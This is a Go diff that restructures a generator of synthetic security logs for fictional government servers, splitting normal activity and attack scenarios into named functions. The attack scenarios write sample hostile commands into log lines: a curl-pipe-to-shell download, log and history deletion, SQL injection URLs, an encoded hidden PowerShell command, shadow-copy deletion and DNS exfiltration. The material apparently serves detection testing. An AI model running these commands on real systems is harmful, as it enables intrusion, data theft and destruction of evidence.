@@ -84,17 +84,41 @@ func access(source string, ago float64, ip, user, request string, status, size i
 	syslog(source, ago, 190, "nginx", `%s - %s [{{clf}}] "%s HTTP/1.1" %d %d "-" "%s"`, ip, user, request, status, size, agent)
 }
 
+// paths are what people ask of each web server.
+var paths = map[string][]string{
+	"mau-dvc-web": {"/", "/dich-vu-cong", "/dich-vu-cong/thu-tuc?ma=1.000656", "/ho-so/tao-moi", "/ho-so/trang-thai?ma=H42-2026-118",
+		"/tin-tuc", "/assets/app.js", "/assets/app.css"},
+	"mau-vbdh-web":   {"/", "/van-ban/den", "/van-ban/di", "/van-ban/xem?so=118-UBND", "/lich-cong-tac", "/assets/app.js"},
+	"mau-lgsp-web":   {"/api/v1/suc-khoe", "/api/v1/danh-muc/don-vi", "/api/v1/danh-muc/thu-tuc", "/api/v1/trang-thai"},
+	"mau-kho-web":    {"/", "/bo-du-lieu", "/bo-du-lieu/dan-so-theo-xa", "/ban-do", "/assets/map.js"},
+	"mau-hssk-web":   {"/", "/ho-so", "/lich-kham", "/don-thuoc", "/assets/app.js"},
+	"mau-thuoc-web":  {"/", "/kho", "/kho/ton", "/don-thuoc/moi", "/bao-cao/thang"},
+	"mau-datdai-web": {"/", "/tra-cuu-quy-hoach", "/ban-do/to?so=12", "/ho-so/trang-thai?ma=DD-2026-77", "/assets/map.js"},
+}
+
+// servers are the hosts with Linux.
+var servers = []string{"mau-dvc-app", "mau-dvc-db", "mau-dvc-web", "mau-kho-app", "mau-kho-db", "mau-lgsp-app", "mau-lgsp-db", "mau-hssk-app",
+	"mau-hssk-db", "mau-datdai-app", "mau-datdai-db", "mau-baocao-app", "mau-baocao-db", "mau-mail-app", "mau-mail-db", "mau-ngansach-app",
+	"mau-ngansach-db", "mau-cbcc-app", "mau-cbcc-db", "mau-hotich-app", "mau-hotich-db"}
+
+// machines are the hosts with Windows.
+var machines = []string{"mau-vbdh-app", "mau-vbdh-db", "mau-thuoc-app", "mau-thuoc-db", "mau-dkkd-app", "mau-dkkd-db", "mau-capphep-app",
+	"mau-capphep-db", "mau-congchung-app", "mau-congchung-db", "mau-tiepdan-app", "mau-tiepdan-db"}
+
+// ordinary: eight hours of work. Its parts draw from one rng: their order is part of the file they write.
 func ordinary() {
-	paths := map[string][]string{
-		"mau-dvc-web": {"/", "/dich-vu-cong", "/dich-vu-cong/thu-tuc?ma=1.000656", "/ho-so/tao-moi", "/ho-so/trang-thai?ma=H42-2026-118",
-			"/tin-tuc", "/assets/app.js", "/assets/app.css"},
-		"mau-vbdh-web":   {"/", "/van-ban/den", "/van-ban/di", "/van-ban/xem?so=118-UBND", "/lich-cong-tac", "/assets/app.js"},
-		"mau-lgsp-web":   {"/api/v1/suc-khoe", "/api/v1/danh-muc/don-vi", "/api/v1/danh-muc/thu-tuc", "/api/v1/trang-thai"},
-		"mau-kho-web":    {"/", "/bo-du-lieu", "/bo-du-lieu/dan-so-theo-xa", "/ban-do", "/assets/map.js"},
-		"mau-hssk-web":   {"/", "/ho-so", "/lich-kham", "/don-thuoc", "/assets/app.js"},
-		"mau-thuoc-web":  {"/", "/kho", "/kho/ton", "/don-thuoc/moi", "/bao-cao/thang"},
-		"mau-datdai-web": {"/", "/tra-cuu-quy-hoach", "/ban-do/to?so=12", "/ho-so/trang-thai?ma=DD-2026-77", "/assets/map.js"},
-	}
+	visits()
+	administration()
+	jobs()
+	mistyped()
+	databases()
+	firewalls()
+	windowsLogons()
+	names()
+}
+
+// visits: people and clerks read pages.
+func visits() {
 	hosts := []string{}
 	for h := range paths {
 		hosts = append(hosts, h)
@@ -112,9 +136,10 @@ func ordinary() {
 		status := pick([]int{200, 200, 200, 200, 200, 200, 304, 302, 404})
 		access(h, past(), ip, user, "GET "+pick(paths[h]), status, 200+rng.IntN(40000), pick(agents))
 	}
-	servers := []string{"mau-dvc-app", "mau-dvc-db", "mau-dvc-web", "mau-kho-app", "mau-kho-db", "mau-lgsp-app", "mau-lgsp-db", "mau-hssk-app",
-		"mau-hssk-db", "mau-datdai-app", "mau-datdai-db", "mau-baocao-app", "mau-baocao-db", "mau-mail-app", "mau-mail-db", "mau-ngansach-app",
-		"mau-ngansach-db", "mau-cbcc-app", "mau-cbcc-db", "mau-hotich-app", "mau-hotich-db"}
+}
+
+// administration: somebody logs in over SSH and perhaps runs a command as root.
+func administration() {
 	for range 70 {
 		h, who, ip, pid, at := pick(servers), pick([]string{"qtht01.mau", "qtht02.mau", "vanhanh.mau"}), pick(admins), 1000+rng.IntN(30000),
 			past()
@@ -126,17 +151,29 @@ func ordinary() {
 				pick([]string{"/usr/bin/systemctl status nginx", "/usr/bin/journalctl -n 100", "/usr/bin/apt list --upgradable", "/usr/bin/df -h"}))
 		}
 	}
+}
+
+// jobs: cron begins them.
+func jobs() {
 	for range 70 {
 		h := pick(servers)
 		syslog(h, past(), 78, fmt.Sprintf("CRON[%d]", 1000+rng.IntN(30000)), "(root) CMD (%s)",
 			pick([]string{"run-parts /etc/cron.hourly", "/usr/local/bin/sao-luu.sh", "/usr/lib/sysstat/sa1 1 1"}))
 	}
+}
+
+// mistyped: wrong passwords, one at a time.
+func mistyped() {
 	once = true
-	for range 25 { // mistyped passwords, one at a time
+	for range 25 {
 		syslog(pick(servers), past(), 38, fmt.Sprintf("sshd[%d]", 1000+rng.IntN(30000)), "Failed password for %s from %s port %d ssh2",
 			pick([]string{"qtht01.mau", "vanhanh.mau"}), pick(admins), 40000+rng.IntN(20000))
 	}
 	once = false
+}
+
+// databases: what PostgreSQL logs.
+func databases() {
 	for range 60 {
 		h := pick([]string{"mau-dvc-db", "mau-kho-db"})
 		app := strings.TrimSuffix(h, "-db") + "-app"
@@ -145,6 +182,10 @@ func ordinary() {
 				"[6-1] LOG:  duration: 41.7 ms  statement: SELECT count(*) FROM ho_so WHERE trang_thai = 2",
 				"[7-1] LOG:  checkpoint complete: wrote 120 buffers"}))
 	}
+}
+
+// firewalls: what they let in and turn away.
+func firewalls() {
 	for _, fw := range []string{"mau-dvc-fw", "mau-vbdh-fw", "mau-lgsp-fw", "mau-kho-fw", "mau-hssk-fw", "mau-thuoc-fw", "mau-datdai-fw"} {
 		for range 18 {
 			action, dst, port := "accept", fmt.Sprintf("192.0.2.%d", 11+rng.IntN(40)), 443
@@ -158,8 +199,10 @@ func ordinary() {
 					100000+rng.IntN(900000), 500+rng.IntN(9000), 900+rng.IntN(90000), 1+rng.IntN(90)))
 		}
 	}
-	machines := []string{"mau-vbdh-app", "mau-vbdh-db", "mau-thuoc-app", "mau-thuoc-db", "mau-dkkd-app", "mau-dkkd-db", "mau-capphep-app",
-		"mau-capphep-db", "mau-congchung-app", "mau-congchung-db", "mau-tiepdan-app", "mau-tiepdan-db"}
+}
+
+// windowsLogons: logons, logoffs and services.
+func windowsLogons() {
 	for range 110 {
 		h, who := pick(machines), pick(persons)
 		once = strings.HasPrefix(h, "mau-tiepdan") || strings.HasPrefix(h, "mau-congchung") // two systems that have fallen silent
@@ -178,6 +221,10 @@ func ordinary() {
 		}
 	}
 	once = false
+}
+
+// names: what hosts look up, as the packet sensor sees it.
+func names() {
 	for range 40 {
 		h := pick([]string{"mau-dvc-app", "mau-kho-app", "mau-hssk-app", "mau-ngansach-app"})
 		record(h, past(), "event.category", "network", "event.action", "dns_query", "event.module", "packet", "event.dataset", "hoalu.dns",
@@ -198,9 +245,24 @@ func process(source string, ago float64, parent, image, command, user string) {
 		"process_creation")
 }
 
+// attacks: each happened once. Their order is part of the file, as with ordinary.
 func attacks() {
 	once = true
-	// The public service portal: scanned, a web shell found, a shell below nginx, tools fetched.
+	portal()
+	dataStore()
+	healthRecords()
+	sharing()
+	land()
+	budget()
+	documents()
+	medicines()
+	permits()
+	singleHosts()
+	detector()
+}
+
+// portal: the public service portal is scanned, a web shell found, a shell run below nginx, tools fetched.
+func portal() {
 	for i := range 45 {
 		access("mau-dvc-web", 2*3600-float64(i)*4, "203.0.113.77", "-",
 			fmt.Sprintf("GET /%s%d/%s", pick([]string{"backup", "old", "test", "upload", "tmp"}), i,
@@ -212,8 +274,10 @@ func attacks() {
 	process("mau-dvc-web", 5299, "/usr/sbin/nginx", "/usr/bin/dash", "sh -c id", "www-data")
 	process("mau-dvc-web", 5279, "/usr/sbin/nginx", "/usr/bin/dash", "sh -c uname -a", "www-data")
 	process("mau-dvc-web", 5200, "/usr/sbin/nginx", "/usr/bin/dash", "sh -c curl -fsSL http://203.0.113.66/a.sh | sh", "www-data")
+}
 
-	// The shared data store: SSH guessed, then open.
+// dataStore: SSH of the shared data store is guessed, then open.
+func dataStore() {
 	for i := range 26 {
 		syslog("mau-kho-app", 9000-float64(i)*6, 38, fmt.Sprintf("sshd[%d]", 2200+i), "Failed password for %s from 198.51.100.47 port %d ssh2",
 			pick([]string{"root", "vanhanh.mau"}), 41000+i)
@@ -221,8 +285,10 @@ func attacks() {
 	syslog("mau-kho-app", 8820, 38, "sshd[2230]", "Accepted password for vanhanh.mau from 198.51.100.47 port 41900 ssh2")
 	syslog("mau-kho-app", 8700, 85, "sudo", " vanhanh.mau : TTY=pts/1 ; PWD=/home/vanhanh.mau ; USER=root ; COMMAND=/bin/bash")
 	process("mau-kho-app", 8400, "/usr/bin/bash", "/usr/bin/rm", "rm -f /var/log/auth.log /root/.bash_history", "root")
+}
 
-	// Health records: one password, many accounts; and a clerk's account that looks up one citizen after another.
+// healthRecords: one password, many accounts; and a clerk's account that looks up one citizen after another.
+func healthRecords() {
 	for i, u := range append(slices.Clone(persons), "tqminh.mau", "nhphuc.mau") {
 		syslog("mau-hssk-app", 14000-float64(i)*70, 38, fmt.Sprintf("sshd[%d]", 3100+i),
 			"Failed password for invalid user %s from 203.0.113.90 port %d ssh2", u, 52000+i)
@@ -231,18 +297,24 @@ func attacks() {
 		access("mau-hssk-web", 3400-float64(i)*26, "10.20.7.31", "bmkhoa.mau", fmt.Sprintf("GET /ho-so/tra-cuu?cccd=0371%02d%06d", 60+i%38, i+1),
 			200, 2100+rng.IntN(900), agents[0])
 	}
+}
 
-	// The sharing platform: SQL in an address.
+// sharing: SQL in an address of the sharing platform.
+func sharing() {
 	for i := range 6 {
 		access("mau-lgsp-web", 6900-float64(i)*9, "198.51.100.23", "-",
 			pick([]string{"GET /api/v1/danh-muc?ma=1%27%20OR%201=1--", "GET /api/v1/danh-muc?ma=5+UNION+SELECT+ten,mat_khau+FROM+tai_khoan"}), 500,
 			310, agents[0])
 	}
+}
 
-	// Land information: a backup served to the Internet.
+// land: a backup of the land information is served to the Internet.
+func land() {
 	access("mau-datdai-web", 10900, "203.0.113.171", "-", "GET /sao-luu/backup.sql", 200, 18234011, "Wget/1.21.4")
+}
 
-	// Budget: data leaves in DNS questions.
+// budget: data leaves in DNS questions.
+func budget() {
 	for i := range 40 {
 		record("mau-ngansach-app", 1500-float64(i)*5, "event.category", "network", "event.action", "dns_query", "event.module", "packet",
 			"event.dataset", "hoalu.dns", "network.protocol", "dns", "network.transport", "udp", "source.ip", "10.20.3.42", "destination.ip",
@@ -251,25 +323,36 @@ func attacks() {
 				rng.Uint32(), rng.Uint32(), i), "dns.question.type", "A", "dns.response_code", "NXDOMAIN", "event.outcome", "failure",
 			"sigma.logsource.product", "hoalu", "sigma.logsource.service", "packet", "sigma.logsource.category", "dns")
 	}
+}
 
-	// Documents: Windows passwords guessed from a workstation.
+// documents: Windows passwords are guessed from a workstation.
+func documents() {
 	for i := range 16 {
 		windows("mau-vbdh-app", 7600-float64(i)*12, "Security", "Microsoft-Windows-Security-Auditing", 4625,
 			map[string]any{"TargetUserName": "Administrator", "TargetDomainName": "MAU", "LogonType": "3", "IpAddress": "10.20.9.40",
 				"IpPort": fmt.Sprint(51000 + i), "Status": "0xc000006d", "SubStatus": "0xc000006a"})
 	}
-	// Medicines: a hidden command, then the log cleared.
+}
+
+// medicines: a hidden command, then the log is cleared.
+func medicines() {
 	windows("mau-thuoc-app", 12600, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1,
 		map[string]any{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
 			"CommandLine": "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgACcAbQBhAHUAJwA7ACAAVwByAGkAdABlAC0ASABvAHMAdAA=",
 			"ParentImage": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "User": `MAU\dtlan.mau`, "ProcessId": "4120"})
 	windows("mau-thuoc-db", 12000, "Security", "Microsoft-Windows-Eventlog", 1102,
 		map[string]any{"SubjectUserName": "dtlan.mau", "SubjectDomainName": "MAU"})
-	// Building permits: ransomware's first step.
+}
+
+// permits: ransomware's first step at the building permits.
+func permits() {
 	windows("mau-capphep-db", 2600, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1,
 		map[string]any{"Image": `C:\Windows\System32\vssadmin.exe`, "CommandLine": "vssadmin delete shadows /all /quiet",
 			"ParentImage": `C:\Users\Public\capnhat.exe`, "User": `MAU\svc.saoluu`, "ProcessId": "5012"})
-	// Mail: sudo refused; reports: a new account with rights; staff: the log service stopped.
+}
+
+// singleHosts: sudo refused at the mail, a new account with rights at the reports, the log service of the staff's database stopped.
+func singleHosts() {
 	for i := range 4 {
 		syslog("mau-mail-app", 16000-float64(i)*100, 81, "sudo",
 			" hvgiang.mau : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/home/hvgiang.mau ; USER=root ; COMMAND=/bin/bash")
@@ -278,7 +361,10 @@ func attacks() {
 		"new user: name=hotro2.mau, UID=1007, GID=1007, home=/home/hotro2.mau, shell=/bin/bash, from=/dev/pts/0")
 	syslog("mau-baocao-app", 19980, 86, "usermod[8110]", "add 'hotro2.mau' to group 'sudo'")
 	syslog("mau-cbcc-db", 23000, 30, "systemd[1]", "Stopped rsyslog.service - System Logging Service.")
-	// An intrusion detection system in front of the data store.
+}
+
+// detector: the intrusion detection system in front of the data store.
+func detector() {
 	add("mau-kho-fw", 9100, "json",
 		text(map[string]any{"timestamp": "{{rfc3339}}", "flow_id": 118000118, "in_iface": "eth1", "event_type": "alert",
 			"src_ip": "198.51.100.47", "src_port": 41000, "dest_ip": "192.0.2.26", "dest_port": 22, "proto": "TCP", "app_proto": "ssh",
